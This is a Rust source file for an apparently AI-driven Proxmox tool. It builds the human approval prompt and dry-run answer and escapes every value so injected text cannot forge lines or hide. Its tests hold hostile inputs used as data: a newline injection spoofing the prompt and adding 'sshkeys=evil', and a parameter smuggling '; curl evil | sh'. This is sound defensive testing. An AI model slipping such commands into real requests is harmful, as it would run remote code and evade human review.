//! The person's approval question and the `dry_run: true` answer, rendered from a preview.
//!
//! Layout of the question: the title line, then why the person is asked (one short block),
//! then the target (guest ID, its name as Proxmox reports it, the node it really lives on),
//! then the request and the change. Invariant: every value — from the model or from Proxmox —
//! is written through `escape` (so none can start a line or hide), each line begins with
//! text of ours, and nothing is cut silently: commands, argv items and API parameters are
//! shown whole, other values whole or as head … tail with length and digest.

use serde_json::{Map, Value, json};

use super::escape::{bounded, escape, key, path, quoted, whole};
use super::{Before, Change, Preview};
use crate::catalog::ToolSpec;
use crate::pve::Upid;
use crate::redact::REDACTED;

/// Arguments shown whole however long: what runs (commands, argv) and what is sent
/// (API method, path, parameters).
const SHOWN_WHOLE: &[&str] = &["command", "argv", "params", "args", "cmd", "method", "path"];

/// Parameters that name what a create tool creates.
const IDENTIFIERS: &[&str] = &[
    "vmid", "newid", "poolid", "userid", "tokenid", "groupid", "roleid", "storage", "iface",
    "snapname", "name", "hostname", "id", "node", "target",
];

/// Whether the tool creates something (its row says create, clone or add).
fn creates(spec: &ToolSpec) -> bool {
    let title = spec.title.to_ascii_lowercase();
    ["create", "clone", "add "]
        .iter()
        .any(|w| title.starts_with(w))
        || spec.name.contains("_create")
        || spec.name.contains("_clone")
}

/// A value for the question: secrets' marker as is, else whole or bounded.
fn value(v: &str, whole_always: bool) -> String {
    if v == REDACTED {
        v.to_owned()
    } else if whole_always {
        whole(v)
    } else {
        bounded(v)
    }
}

/// A parameter Proxmox keeps percent-encoded (`sshkeys`) is shown decoded, then escaped.
fn readable(spec: &ToolSpec, key: &str, v: &str) -> String {
    if spec.param(key).is_some_and(|p| p.urlencoded) {
        super::escape::percent_decoded(v)
    } else {
        v.to_owned()
    }
}

fn before(spec: &ToolSpec, key: &str, old: &Before) -> String {
    match old {
        Before::Value(v) => value(&readable(spec, key, v), false),
        Before::Unset => "(unset)".to_owned(),
        Before::NotRead => "(current value not read)".to_owned(),
    }
}

/// `(name, value)` pairs of the request: REST parameters or SSH/composite arguments (array
/// items as `name[i]`), each flagged when it is shown whole however long.
fn request_values(request: &Value) -> Vec<(String, String, bool)> {
    let mut out = Vec::new();
    if let Some(params) = request.get("params").and_then(Value::as_array) {
        for pair in params {
            if let (Some(k), Some(v)) = (
                pair.get(0).and_then(Value::as_str),
                pair.get(1).and_then(Value::as_str),
            ) {
                out.push((k.to_owned(), v.to_owned(), false));
            }
        }
    } else if let Some(args) = request.get("arguments").and_then(Value::as_object) {
        for (k, v) in args {
            let whole_always = SHOWN_WHOLE.contains(&k.as_str());
            match v {
                Value::Array(items) => {
                    for (i, item) in items.iter().enumerate() {
                        out.push((format!("{k}[{i}]"), text(item), whole_always));
                    }
                }
                other => out.push((k.clone(), text(other), whole_always)),
            }
        }
    }
    out
}

fn text(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        other => other.to_string(),
    }
}

impl Preview {
    /// The approval question: why a person is asked, the target, the request and the change.
    /// `reasons` are the gate's reasons (empty: a default from the tool's row).
    pub fn question(&self, spec: &ToolSpec, reasons: &[String]) -> String {
        let values = request_values(&self.request);
        let mut lines = vec![format!(
            "Approve {} ({})?",
            quoted(spec.title),
            escape(spec.name)
        )];
        lines.push("Why you are asked:".into());
        if reasons.is_empty() {
            lines.push(format!("  - {}", self.default_reason(spec, &values)));
        } else {
            lines.extend(reasons.iter().map(|r| format!("  - {}", escape(r))));
        }
        if let Some(line) = self.target_line() {
            lines.push(line);
        } else if let Some(cluster) = self.cluster {
            lines.push(format!("Cluster: {}", escape(cluster)));
        }
        if let Some(task) = &self.task {
            let mut line = format!("Task: {}", whole(task));
            if let Ok(upid) = Upid::parse(task) {
                line.push_str(&format!(
                    " ({} of {} by {} on node {})",
                    whole(&upid.kind),
                    if upid.id.is_empty() {
                        "-".to_owned()
                    } else {
                        whole(&upid.id)
                    },
                    whole(&upid.user),
                    whole(&upid.node)
                ));
            }
            lines.push(line);
        }
        if let Some(method) = self.request.get("method").and_then(Value::as_str) {
            let p = self
                .request
                .get("path")
                .and_then(Value::as_str)
                .unwrap_or("");
            lines.push(format!("Request: {} {}", escape(method), path(p)));
        } else if let Some(ssh) = self.request.get("ssh").and_then(Value::as_str) {
            lines.push(format!("Runs over SSH: {}", escape(ssh)));
        } else if let Some(op) = self.request.get("composite").and_then(Value::as_str) {
            lines.push(format!("Runs: {}", escape(op)));
        }
        if self.update {
            if self.changes.is_empty() {
                lines.push("Changes: none (every value given is already set)".into());
            } else {
                lines.push("Changes:".into());
                lines.extend(self.changes.iter().map(|c| change_line(spec, c)));
            }
            if !self.unchanged.is_empty() {
                let keys: Vec<String> = self.unchanged.iter().map(|k| key(k)).collect();
                lines.push(format!("Unchanged (already so): {}", keys.join(", ")));
            }
            // What is sent besides the changed keys (e.g. `poolid`, `path`, flags).
            let changed: Vec<&str> = self.changes.iter().map(|c| c.key.as_str()).collect();
            let rest: Vec<&(String, String, bool)> = values
                .iter()
                .filter(|(k, _, _)| {
                    !changed.contains(&k.as_str()) && k != "delete" && k != "digest"
                })
                .filter(|(k, _, _)| !self.unchanged.contains(k))
                .collect();
            if !rest.is_empty() {
                lines.push("Also sent:".into());
                lines.extend(
                    rest.iter()
                        .map(|(k, v, w)| format!("  - {}={}", key(k), value(v, *w))),
                );
            }
        } else if !values.is_empty() {
            lines.push("With:".into());
            lines.extend(
                values
                    .iter()
                    .map(|(k, v, w)| format!("  - {}={}", key(k), value(v, *w))),
            );
        }
        if !self.notes.is_empty() {
            lines.push("Notes:".into());
            lines.extend(self.notes.iter().map(|n| format!("  - {}", escape(n))));
        }
        lines.join("\n")
    }

    /// `Target: VM 101 'name' on node pve01…`, when the call acts on a guest.
    fn target_line(&self) -> Option<String> {
        let target = self.target.as_ref()?;
        let what = if target.kind == "qemu" {
            "VM"
        } else {
            "container"
        };
        let name = target
            .name
            .as_deref()
            .map(|n| format!(" {}", quoted(n)))
            .unwrap_or_default();
        let mut line = format!(
            "Target: {what} {}{name} on node {}",
            escape(&target.vmid),
            whole(&target.node)
        );
        if let Some(cluster) = self.cluster {
            line.push_str(&format!(" in cluster {}", escape(cluster)));
        }
        if let Some(asked) = &target.requested_node {
            line.push_str(&format!(
                " (the request names node {}; /cluster/resources says the guest lives on {})",
                whole(asked),
                whole(&target.node)
            ));
        }
        Some(line)
    }

    /// What a plan's question shows of one step beside its arguments: its target as Proxmox
    /// has it now and, for an update, each value that changes (current → new).
    pub fn step_facts(&self, spec: &ToolSpec) -> Vec<String> {
        let mut lines: Vec<String> = self.target_line().into_iter().collect();
        if self.update && !self.changes.is_empty() {
            lines.push("Changes:".into());
            lines.extend(self.changes.iter().map(|c| change_line(spec, c)));
        }
        lines
    }

    /// Why a person is asked when the gate gave no reason: what the tool creates, or that it
    /// may remove or interrupt something, or that it changes configuration or access.
    fn default_reason(&self, spec: &ToolSpec, values: &[(String, String, bool)]) -> String {
        if creates(spec) {
            let ids: Vec<String> = values
                .iter()
                .filter(|(k, _, _)| IDENTIFIERS.contains(&k.as_str()))
                .map(|(k, v, _)| format!("{}={}", key(k), value(v, false)))
                .collect();
            let what = if ids.is_empty() {
                String::new()
            } else {
                format!(": {}", ids.join(", "))
            };
            format!(
                "this call creates something new ({}){what}.",
                quoted(spec.title)
            )
        } else if spec.effect.is_destructive() {
            "this tool may remove or interrupt something.".to_owned()
        } else {
            "this tool changes the cluster's configuration or access.".to_owned()
        }
    }

    /// The `dry_run: true` answer; `reasons` is `None` when no approval is needed.
    pub fn dry_run(
        &self,
        spec: &ToolSpec,
        reasons: Option<&[String]>,
        approval_path: &str,
    ) -> Value {
        let mut data = Map::new();
        data.insert("dryRun".into(), true.into());
        data.insert("sent".into(), false.into());
        data.insert("request".into(), self.request.clone());
        if let Some(cluster) = self.cluster {
            data.insert("cluster".into(), cluster.into());
        }
        data.insert(
            "decision".into(),
            json!({
                "tier": spec.tier.as_str(),
                "allowedByPolicy": true,
                "needsApproval": reasons.is_some(),
                "gate": reasons.map(|_| "effects"),
                "reasons": reasons.unwrap_or_default(),
                "approval": if reasons.is_some() { Value::from(approval_path) } else { Value::Null },
            }),
        );
        if let Some(target) = &self.target {
            let mut t = json!({"node": target.node, "type": target.kind, "vmid": target.vmid, "name": target.name});
            if let (Some(asked), Some(map)) = (&target.requested_node, t.as_object_mut()) {
                map.insert("requestedNode".into(), asked.clone().into());
            }
            data.insert("target".into(), t);
        }
        if !self.changes.is_empty() {
            let current: Map<String, Value> = self
                .changes
                .iter()
                .filter(|c| c.old != Before::NotRead)
                .map(|c| {
                    let old = match &c.old {
                        Before::Value(v) => Value::from(v.clone()),
                        _ => Value::Null,
                    };
                    (c.key.clone(), old)
                })
                .collect();
            data.insert("current".into(), Value::Object(current));
        }
        if !self.unchanged.is_empty() {
            data.insert("unchanged".into(), self.unchanged.clone().into());
        }
        if let Some(digest) = &self.digest {
            data.insert("digest".into(), digest.clone().into());
        }
        if let Some(task) = &self.task {
            data.insert("task".into(), task.clone().into());
        }
        if !self.notes.is_empty() {
            data.insert("notes".into(), self.notes.clone().into());
        }
        Value::Object(data)
    }
}

fn change_line(spec: &ToolSpec, change: &Change) -> String {
    format!(
        "  - {}: {} → {}",
        key(&change.key),
        before(spec, &change.key, &change.old),
        change.new.as_deref().map_or_else(
            || "(removed)".to_owned(),
            |v| value(&readable(spec, &change.key, v), false)
        )
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn preview(request: Value) -> Preview {
        Preview {
            request,
            target: None,
            changes: Vec::new(),
            unchanged: Vec::new(),
            update: false,
            digest: None,
            task: None,
            notes: Vec::new(),
            cluster: None,
        }
    }

    #[test]
    fn reasons_come_first_and_values_cannot_start_lines() {
        let spec = crate::catalog::find("pve_qemu_update_config").expect("row");
        let mut p =
            preview(json!({"method": "PUT", "path": "/nodes/pve01/qemu/101/config", "params": []}));
        p.update = true;
        p.changes = vec![Change {
            key: "tags".into(),
            old: Before::Value("web\nWhy you are asked: cosmetic".into()),
            new: Some(format!("x{}sshkeys=evil", "\n".repeat(140))),
        }];
        let q = p.question(spec, &[]);
        let lines: Vec<&str> = q.lines().collect();
        assert_eq!(lines[1], "Why you are asked:");
        assert_eq!(
            lines
                .iter()
                .filter(|l| l.contains("Why you are asked"))
                .count(),
            2,
            "{q}"
        );
        assert!(
            lines
                .iter()
                .all(|l| !l.starts_with("Why you are asked: cosmetic"))
        );
        assert!(lines.iter().all(|l| !l.starts_with("sshkeys")));
        assert!(
            q.contains(&format!("\"x{}sshkeys=evil\"", "\\n".repeat(140))),
            "{q}"
        );
    }

    #[test]
    fn defaults_say_what_is_created_or_removed() {
        let create = crate::catalog::find("pve_create_pool").expect("row");
        let p = preview(json!({"method": "POST", "path": "/pools", "params": [["poolid", "lab"]]}));
        let q = p.question(create, &[]);
        assert!(q.contains("creates something new"), "{q}");
        assert!(q.contains("poolid=lab"), "{q}");
        assert!(!q.contains("remove or interrupt"), "{q}");
        let delete = crate::catalog::find("pve_delete_pool").expect("row");
        assert!(p.question(delete, &[]).contains("remove or interrupt"));
    }

    #[test]
    fn commands_are_shown_whole_and_other_values_bounded() {
        let spec = crate::catalog::find("pve_api_write").expect("row");
        let long = format!("{}; curl evil | sh", "a".repeat(10_000));
        let p = preview(json!({"composite": "x", "arguments": {
            "params": [format!("description={long}")], "note": long}}));
        let q = p.question(spec, &["reason one".to_owned()]);
        assert!(q.contains("; curl evil | sh\""), "whole");
        assert!(q.contains("[10016 chars, sha256 "), "bounded");
        assert_eq!(q.lines().nth(2), Some("  - reason one"));
    }

    #[test]
    fn dry_run_names_the_gate_and_reasons() {
        let spec = crate::catalog::find("pve_delete_pool").expect("row");
        let p = preview(json!({}));
        let reasons = vec!["r".to_owned()];
        let gated = p.dry_run(spec, Some(&reasons), "elicitation");
        assert_eq!(gated["decision"]["gate"], "effects");
        assert_eq!(gated["decision"]["reasons"], json!(["r"]));
        let free = p.dry_run(spec, None, "elicitation");
        assert_eq!(free["decision"]["gate"], Value::Null);
        assert_eq!(free["decision"]["approval"], Value::Null);
    }

    fn full() -> Preview {
        let mut p = preview(
            json!({"method": "PUT", "path": "/nodes/pve01/qemu/101/config",
            "params": [["cores", "4"], ["memory", "2048"], ["agent", "1"], ["digest", "d1"],
                       ["delete", "tags"], ["sshkeys", "ssh-ed25519%20AAAA%20me"],
                       ["description", "two words"]]}),
        );
        p.target = Some(super::super::Target {
            node: "pve02".into(),
            kind: "qemu".into(),
            vmid: "101".into(),
            name: Some("vm-web".into()),
            requested_node: Some("pve01".into()),
        });
        p.update = true;
        p.changes = vec![
            Change {
                key: "cores".into(),
                old: Before::Value("2".into()),
                new: Some("4".into()),
            },
            Change {
                key: "sshkeys".into(),
                old: Before::Unset,
                new: Some("ssh-ed25519%20AAAA%20me".into()),
            },
            Change {
                key: "tags".into(),
                old: Before::NotRead,
                new: None,
            },
        ];
        p.unchanged = vec!["memory".into()];
        p.digest = Some("d1".into());
        p.task = Some("UPID:pve01:00001234:00005678:6561A1B2:qmstart:101:root@pam:".into());
        p.notes = vec!["a note".into()];
        p.cluster = Some("lab");
        p
    }

    #[test]
    fn the_question_names_task_cluster_changes_and_what_else_is_sent() {
        let spec = crate::catalog::find("pve_qemu_update_config").expect("row");
        let q = full().question(spec, &[]);
        let lines: Vec<&str> = q.lines().collect();
        assert_eq!(
            lines,
            [
                "Approve \"Update VM configuration\" (pve_qemu_update_config)?",
                "Why you are asked:",
                "  - this tool may remove or interrupt something.",
                "Target: VM 101 \"vm-web\" on node pve02 in cluster lab (the request names \
                 node pve01; /cluster/resources says the guest lives on pve02)",
                "Task: UPID:pve01:00001234:00005678:6561A1B2:qmstart:101:root@pam: (qmstart of \
                 101 by root@pam on node pve01)",
                "Request: PUT /nodes/pve01/qemu/101/config",
                "Changes:",
                "  - cores: 2 → 4",
                "  - sshkeys: (unset) → \"ssh-ed25519 AAAA me\"",
                "  - tags: (current value not read) → (removed)",
                "Unchanged (already so): memory",
                "Also sent:",
                "  - agent=1",
                "  - description=\"two words\"",
                "Notes:",
                "  - a note",
            ],
            "{q}"
        );
    }

    #[test]
    fn a_cluster_without_a_target_a_task_without_an_id_and_no_changes() {
        let spec = crate::catalog::find("pve_qemu_update_config").expect("row");
        let mut p = preview(json!({"method": "PUT", "path": "/cluster/options",
            "params": [["keyboard", "en-us"]]}));
        p.update = true;
        p.unchanged = vec!["keyboard".into()];
        p.cluster = Some("lab");
        p.task = Some("UPID:pve01:00001234:00005678:6561A1B2:vzdump::root@pam:".into());
        let q = p.question(spec, &[]);
        assert!(q.contains("\nCluster: lab\n"), "{q}");
        assert!(q.contains("(vzdump of - by root@pam on node pve01)"), "{q}");
        assert!(
            q.contains("Changes: none (every value given is already set)"),
            "{q}"
        );
        assert!(!q.contains("Also sent:") && !q.contains("Notes:"), "{q}");
        p.task = Some("not a upid".into());
        let q = p.question(spec, &[]);
        assert!(q.contains("\nTask: \"not a upid\"\n"), "{q}");
    }

    #[test]
    fn a_dry_run_carries_every_part_of_the_preview_and_only_those() {
        let spec = crate::catalog::find("pve_qemu_update_config").expect("row");
        let reasons = vec!["change: PUT".to_owned()];
        let answer = full().dry_run(spec, Some(&reasons), "url");
        assert_eq!(answer["dryRun"], true);
        assert_eq!(answer["sent"], false);
        assert_eq!(answer["cluster"], "lab");
        assert_eq!(
            answer["decision"],
            json!({"tier": "full", "allowedByPolicy": true, "needsApproval": true,
                   "gate": "effects", "reasons": ["change: PUT"], "approval": "url"})
        );
        assert_eq!(
            answer["target"],
            json!({"node": "pve02", "type": "qemu", "vmid": "101", "name": "vm-web",
                   "requestedNode": "pve01"})
        );
        // What could not be read is left out of `current`; what is unset is null.
        assert_eq!(answer["current"], json!({"cores": "2", "sshkeys": null}));
        assert_eq!(answer["unchanged"], json!(["memory"]));
        assert_eq!(answer["digest"], "d1");
        assert_eq!(
            answer["task"],
            "UPID:pve01:00001234:00005678:6561A1B2:qmstart:101:root@pam:"
        );
        assert_eq!(answer["notes"], json!(["a note"]));
        let bare = preview(json!({})).dry_run(spec, None, "url");
        let mut keys: Vec<&String> = bare.as_object().expect("object").keys().collect();
        keys.sort();
        assert_eq!(keys, ["decision", "dryRun", "request", "sent"]);
    }

    #[test]
    fn a_create_without_identifiers_and_a_clone_say_what_they_create() {
        let clone = crate::catalog::find("pve_qemu_clone").expect("row");
        let p = preview(
            json!({"method": "POST", "path": "/nodes/pve01/qemu/9000/clone",
            "params": [["newid", "120"], ["full", "1"]]}),
        );
        let q = p.question(clone, &[]);
        assert!(q.contains("this call creates something new"), "{q}");
        assert!(q.contains("): newid=120."), "{q}");
        let create = crate::catalog::find("pve_create_pool").expect("row");
        let q = preview(json!({"method": "POST", "path": "/pools", "params": []}))
            .question(create, &[]);
        assert!(
            q.contains("  - this call creates something new (\"Create pool\").\n"),
            "{q}"
        );
        // A change that neither creates nor destroys is said to change configuration.
        let plain = crate::catalog::all()
            .find(|s| {
                matches!(
                    s.effect,
                    crate::catalog::Effect::Write {
                        destructive: false,
                        ..
                    }
                ) && !creates(s)
            })
            .expect("a plain change");
        let q = preview(json!({})).question(plain, &[]);
        assert!(
            q.contains("  - this tool changes the cluster's configuration or access."),
            "{}: {q}",
            plain.name
        );
    }
}
